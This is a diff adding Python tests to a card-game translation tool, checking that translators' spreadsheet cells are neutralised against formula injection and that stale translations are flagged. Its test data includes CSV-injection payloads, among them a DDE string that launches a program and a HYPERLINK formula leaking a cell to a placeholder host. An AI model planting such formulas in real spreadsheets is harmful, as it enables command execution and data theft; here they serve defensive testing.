@@ -331,3 +331,222 @@ def test_a_sheet_row_the_import_does_not_change_keeps_its_very_text(translated, 
     assert len(after) == len(before)
     assert [i for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b] == [next(i for i, x in enumerate(before) if x.startswith("emerald-3,"))]
     assert after[at].startswith('"sapphire-1","Sapphire shard"')
+
+
+HOSTILE = {  # what a translator may type that a spreadsheet program would run (issue #100 item 1): (card, field) → text
+    ("ruby-1", "name"): "+1+1",
+    ("ruby-3", "name"): "@SUM(A1)",
+    ("emerald-1", "text"): '=HYPERLINK("http://x.example/?"&A1,"click")',
+    ("emerald-3", "name"): "'=1+1",  # the export's own guarded cell: the text =1+1
+    ("sapphire-1", "text"): "=cmd|' /C calc'!A0",
+}
+FORMULA_STARTS = "=+-@\t\r"  # what Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP, CSV injection)
+
+
+def hostile_sheet(root: Path, path: Path) -> None:
+    """A filled sheet holding HOSTILE, each row's English as the deck's CSV has it."""
+    deck = read_csv(root / SHEET)
+    english = {(row[0], name): row[deck[0].index(name)] for row in deck[1:] for name in ("name", "text")}
+    rows = [["id", "where", "en", "de", "status", "fits", "face"]]
+    rows += [[f"{SHEET}#cards[{card}].{name}", "", english[card, name], german, "missing", "", ""] for (card, name), german in HOSTILE.items()]
+    write_csv(path, rows)
+
+
+def test_a_translator_s_formula_is_text_in_the_designer_s_csv_and_on_the_card(translated, tmp_path):
+    """Each hostile cell lands in the deck's CSV behind the `'` guard (no field starts like a formula, as a spreadsheet
+    program reads the file), and the German card prints it as the translator wrote it (the export's `'=1+1` as =1+1)."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    hostile_sheet(tmp_path, tmp_path / "de.csv")
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    assert result.exit_code == 0 and "warning" not in result.output and f"{SHEET}: 5 translations written" in result.output, result.output
+    rows = read_csv(tmp_path / SHEET)
+    head = rows[0]
+    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]  # no live formula anywhere in the file
+    by_id = {row[0]: row for row in rows[1:]}
+    for (card, name), german in HOSTILE.items():
+        shown = german.removeprefix("'")
+        assert by_id[card][head.index(f"{name}@de")] == "'" + shown  # the guard before it, which a spreadsheet program hides
+        assert by_id[card][head.index(f"{name}@de~src")] == letters(by_id[card][head.index(name)])
+    result = run_pnp(tmp_path, "build", "gems", "--lang", "de", "--only", "cards")
+    assert result.exit_code == 0, result.output
+    printed = pdf_text(tmp_path / "output" / "gems" / "gems-cards-de.pdf").replace(" ", "")
+    printed = printed.translate(str.maketrans("“”’", "\"\"'"))  # the card sets its quotes typographically
+    for german in HOSTILE.values():
+        assert german.removeprefix("'").replace(" ", "") in printed
+    assert "'=1+1" not in printed and "'+1+1" not in printed  # the guard is never printed
+
+
+def test_a_translator_s_formula_is_text_in_the_exported_sheets_and_comes_back_unchanged(translated, tmp_path):
+    """Exported again, the hostile translations are guarded in the CSV and strings in the XLSX (no `<f>` in its XML,
+    as a spreadsheet program reads it); each sheet imported back as exported changes nothing."""
+    import zipfile
+
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    hostile_sheet(tmp_path, tmp_path / "de.csv")
+    assert run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv")).exit_code == 0
+    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
+    folder = tmp_path / "output" / "gems" / "translate"
+    rows = read_csv(folder / "gems-de.csv")
+    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]
+    exported = {row[0]: row[3] for row in rows}
+    for (card, name), german in HOSTILE.items():
+        assert exported[f"{SHEET}#cards[{card}].{name}"] == "'" + german.removeprefix("'")
+    with zipfile.ZipFile(folder / "gems-de.xlsx") as zf:
+        xml = zf.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    for sheet in ("gems-de.csv", "gems-de.xlsx"):
+        result = run_pnp(tmp_path, "translate", "import", str(folder / sheet))
+        assert result.exit_code == 0 and "nothing to write" in result.output, result.output
+
+
+def test_a_translator_s_formula_never_enters_a_workbook_deck(translated, tmp_path):
+    """A deck read from an XLSX: pnp does not write workbooks, so each translation is an error at its cell that says to
+    type it after a `'`, and the workbook holds no formula (its XML read back: every cell a string, no `<f>`)."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    shutil.copytree(translated / "data", tmp_path / "data")
+    decks = tmp_path / "data" / "gems" / "decks"
+    book = Workbook()
+    for row in read_csv(decks / "crystals.csv"):
+        book.active.append(row)
+    book.save(decks / "crystals.xlsx")
+    (decks / "crystals.csv").unlink()
+    deck = decks / "crystals.yaml"
+    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.csv", "cards_from: crystals.xlsx"), encoding="utf-8")
+    before = (decks / "crystals.xlsx").read_bytes()
+    hostile_sheet(translated, tmp_path / "de.csv")
+    text = (tmp_path / "de.csv").read_text(encoding="utf-8").replace("data/gems/decks/crystals.csv", "data/gems/decks/crystals.xlsx")
+    (tmp_path / "de.csv").write_text(text, encoding="utf-8")
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    errors = [line for line in result.output.splitlines() if ": error: " in line]
+    assert result.exit_code == 1 and len(errors) == 5, result.output
+    assert all("after a `'`, so the program keeps it as text" in line for line in errors), errors
+    assert (decks / "crystals.xlsx").read_bytes() == before
+    with zipfile.ZipFile(decks / "crystals.xlsx") as zf:
+        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
+
+
+def sheet_row(rows: list[list[str]], cell_id: str) -> tuple[int, list[str]]:
+    """(1-based line in the sheet, row) of the row for `cell_id`."""
+    return next((i + 1, row) for i, row in enumerate(rows) if row[0] == cell_id)
+
+
+def test_a_sheet_exported_before_the_english_changed_records_the_text_the_translator_saw(translated, tmp_path):
+    """The English changes between export and import (a card's name in the CSV deck, the deck's name in its YAML): the
+    import warns at each row's English cell, records the digest of the sheet's English (not today's), and so validate
+    calls both translations stale at their cells, and the next export marks their rows stale, never checked."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    exported = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")  # as the translator got it
+    deck_csv, deck_yaml = tmp_path / SHEET, tmp_path / "data/gems/decks/crystals.yaml"
+    deck_csv.write_text(deck_csv.read_text(encoding="utf-8").replace("Sapphire tide", "Sapphire wave"), encoding="utf-8")
+    deck_yaml.write_text(deck_yaml.read_text(encoding="utf-8").replace("name: Crystals", "name: Crystal caves"), encoding="utf-8")
+    _, tide = sheet_row(exported, f"{SHEET}#cards[sapphire-2].name")
+    _, name = sheet_row(exported, "data/gems/decks/crystals.yaml#name")
+    assert tide[2] == "Sapphire tide" and name[2] == "Crystals"
+    tide[3], name[3] = "Saphirflut", "Kristallhöhlen"
+    write_csv(tmp_path / "de.csv", [exported[0], tide, name])
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    assert result.exit_code == 0, result.output
+    warned = [line for line in result.output.splitlines() if "source text changed since this sheet was exported" in line]
+    assert len(warned) == 2, result.output
+    assert warned[0].startswith("de.csv:2:3: warning: ") and "Sapphire wave" in warned[0]
+    assert warned[1].startswith("de.csv:3:3: warning: ") and "Crystal caves" in warned[1]
+    rows = read_csv(deck_csv)
+    _, card = sheet_row(rows, "sapphire-2")
+    assert card[rows[0].index("name@de~src")] == letters("Sapphire tide") != letters("Sapphire wave")
+    assert f"name@de~src: {letters('Crystals')}" in deck_yaml.read_text(encoding="utf-8")
+    result = run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick")
+    stale = sorted(line.split(": warning: ")[0] for line in result.output.splitlines() if "made from an older text" in line)
+    deck_lines = deck_yaml.read_text(encoding="utf-8").split("\n")
+    tide_at = next(i + 1 for i, line in enumerate(deck_csv.read_text(encoding="utf-8").split("\n")) if line.startswith("sapphire-2,"))
+    assert stale == sorted([f"{SHEET}:{tide_at}:{rows[0].index('name@de') + 1}",  # its line in the file (a card above spans two)
+                            f"data/gems/decks/crystals.yaml:{deck_lines.index('name@de: Kristallhöhlen') + 1}:10"]), result.output
+    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
+    again = read_csv(tmp_path / "output" / "gems" / "translate" / "gems-de.csv")
+    assert sheet_row(again, f"{SHEET}#cards[sapphire-2].name")[1][2:5] == ["Sapphire wave", "Saphirflut", "stale"]
+    assert sheet_row(again, "data/gems/decks/crystals.yaml#name")[1][2:5] == ["Crystal caves", "Kristallhöhlen", "stale"]
+
+
+def test_emptying_a_stale_row_s_status_confirms_its_translation(translated, tmp_path):
+    """A stale row imported as exported changes nothing; with its `status` cell emptied, the import records today's
+    English for it, and validate no longer calls it stale."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    deck_csv = tmp_path / SHEET
+    deck_csv.write_text(deck_csv.read_text(encoding="utf-8").replace("Ruby shard", "Ruby splinter"), encoding="utf-8")
+    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
+    exported = read_csv(tmp_path / "output" / "gems" / "translate" / "gems-de.csv")
+    _, ruby = sheet_row(exported, f"{SHEET}#cards[ruby-1].name")
+    assert ruby[2:5] == ["Ruby splinter", "Rubinsplitter", "stale"]
+    write_csv(tmp_path / "as-is.csv", [exported[0], ruby])
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "as-is.csv"))
+    assert result.exit_code == 0 and "nothing to write" in result.output, result.output
+    ruby[4] = ""
+    write_csv(tmp_path / "checked.csv", [exported[0], ruby])
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "checked.csv"))
+    assert result.exit_code == 0 and f"{SHEET}: 1 translation written" in result.output, result.output
+    rows = read_csv(deck_csv)
+    _, card = sheet_row(rows, "ruby-1")
+    assert card[rows[0].index("name@de")] == "Rubinsplitter" and card[rows[0].index("name@de~src")] == letters("Ruby splinter")
+    assert "older text" not in run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick").output
+
+
+def test_a_translator_s_formula_is_text_in_a_tsv_deck(translated, tmp_path):
+    """The same guard in a tab-separated deck: no field starts like a formula, and each reads back as typed."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    decks = tmp_path / "data" / "gems" / "decks"
+    with (decks / "crystals.tsv").open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f, delimiter="\t", lineterminator="\n").writerows(read_csv(decks / "crystals.csv"))
+    (decks / "crystals.csv").unlink()
+    deck = decks / "crystals.yaml"
+    deck.write_text(deck.read_text(encoding="utf-8").replace("cards_from: crystals.csv", "cards_from: crystals.tsv"), encoding="utf-8")
+    hostile_sheet(translated, tmp_path / "de.csv")
+    text = (tmp_path / "de.csv").read_text(encoding="utf-8").replace(SHEET, "data/gems/decks/crystals.tsv")
+    (tmp_path / "de.csv").write_text(text, encoding="utf-8")
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "de.csv"))
+    assert result.exit_code == 0 and "data/gems/decks/crystals.tsv: 5 translations written" in result.output, result.output
+    with (decks / "crystals.tsv").open(encoding="utf-8", newline="") as f:
+        rows = list(csv.reader(f, delimiter="\t"))
+    assert not [v for row in rows for v in row if v[:1] and v[0] in FORMULA_STARTS]
+    from pnp.data.spreadsheet import SheetSource, read_cards
+
+    cards = {card["id"]: card for card in read_cards(SheetSource(decks / "crystals.tsv", "crystals.tsv"))}  # as a build reads the deck
+    for (card, name), german in HOSTILE.items():
+        assert cards[card][f"{name}@de"] == german.removeprefix("'")
+
+
+def test_a_rule_changed_between_export_and_import_is_stale_in_the_german_rulebook(translated, tmp_path):
+    """The rulebook's 'playing' section is reworded after the sheet went out: the German section notes the digest of
+    the English the translator saw, so validate warns at its heading and the next export marks its row stale."""
+    shutil.copytree(translated / "data", tmp_path / "data")
+    shutil.copytree(translated / "templates", tmp_path / "templates")
+    rows = read_csv(translated / "output" / "gems" / "translate" / "gems-de.csv")
+    book = [row for row in rows if row[0].startswith("data/gems/rulebook.md#")]
+    for row, german in zip(book, ["---\nsubtitle: Spielregeln\n---", "# Überblick\n\nSammelt.", "# Material\n\nAlles.", "# Spielablauf\n\nSpielt."],
+                           strict=True):
+        row[3] = german
+    seen = book[3][2]
+    rules = tmp_path / "data/gems/rulebook.md"
+    english = rules.read_text(encoding="utf-8")
+    assert seen in english
+    rules.write_text(english.replace(seen, seen + "\n\nThen pass the cave to your left."), encoding="utf-8")
+    write_csv(tmp_path / "book.csv", [rows[0], *book])
+    result = run_pnp(tmp_path, "translate", "import", str(tmp_path / "book.csv"))
+    warned = [line for line in result.output.splitlines() if ": warning: the source text changed since" in line]
+    lines = (tmp_path / "book.csv").read_text(encoding="utf-8").split("\n")
+    line = next(i + 1 for i, x in enumerate(lines) if x.startswith("data/gems/rulebook.md#playing"))  # cells above span lines
+    assert result.exit_code == 0 and len(warned) == 1 and warned[0].startswith(f"book.csv:{line}:3: "), result.output
+    assert "it now reads '# Playing 1. Shuffle" in warned[0]  # its start on one line
+    assert "{# src: " + letters(seen) + " #}" in (tmp_path / "data/gems/rulebook.de.md").read_text(encoding="utf-8")
+    result = run_pnp(tmp_path, "validate", "gems", "--lang", "de", "--quick")
+    warned = [line for line in result.output.splitlines() if "made from an older text" in line]
+    assert len(warned) == 1 and warned[0].startswith("data/gems/rulebook.de.md:") and "section 'playing'" in warned[0], result.output
+    assert run_pnp(tmp_path, "translate", "export", "gems", "--lang", "de", "--dpi", "30").exit_code == 0
+    status = {row[0].partition("#")[2]: row[4] for row in read_csv(tmp_path / "output/gems/translate/gems-de.csv") if "rulebook.md#" in row[0]}
+    assert status == {"opening": "", "overview": "", "components": "", "playing": "stale"}
